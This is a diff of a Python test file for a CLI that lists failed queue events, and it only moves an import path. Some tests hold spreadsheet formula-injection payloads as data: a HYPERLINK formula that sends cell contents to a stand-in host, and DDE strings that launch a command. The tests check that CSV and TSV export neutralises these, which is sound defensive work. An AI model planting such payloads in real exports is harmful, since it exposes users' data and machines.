@@ -392,7 +392,7 @@ def test_live_rows_reach_the_reader_one_by_one(fmt: Format) -> None:
 
 @pytest.mark.timeout(120)
 def test_failed_list_table_cuts_a_huge_last_error_and_json_keeps_it_whole(configured, cli) -> None:  # type: ignore[no-untyped-def]
-    from tests.events import event
+    from tests.helpers.events import event
 
     error = "E" * 1_000_000
     configured.insert([event(1, status="DLQ_FAILED", last_error=error), event(2, last_error="short")])
@@ -410,7 +410,7 @@ def test_failed_list_table_cuts_a_huge_last_error_and_json_keeps_it_whole(config
 
 @pytest.mark.parametrize("raw_first", [False, True])
 def test_failed_list_csv_neutralises_formulas_unless_raw_cells(configured, cli, raw_first: bool) -> None:  # type: ignore[no-untyped-def]
-    from tests.events import event
+    from tests.helpers.events import event
 
     topic, error = '=HYPERLINK("http://x.test/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0"
     configured.insert([event(1, topic=topic, last_error=error, retry_count=3)])
@@ -430,7 +430,7 @@ def test_failed_list_csv_neutralises_formulas_unless_raw_cells(configured, cli, 
 
 
 def test_failed_counts_tsv_neutralises_formulas_unless_raw_cells(configured, cli) -> None:  # type: ignore[no-untyped-def]
-    from tests.events import event
+    from tests.helpers.events import event
 
     configured.insert([event(1, topic="+cmd|' /C calc'!A0"), event(2, topic="+cmd|' /C calc'!A0")])
     result = cli("failed", "-g", "topic", "-o", "tsv")
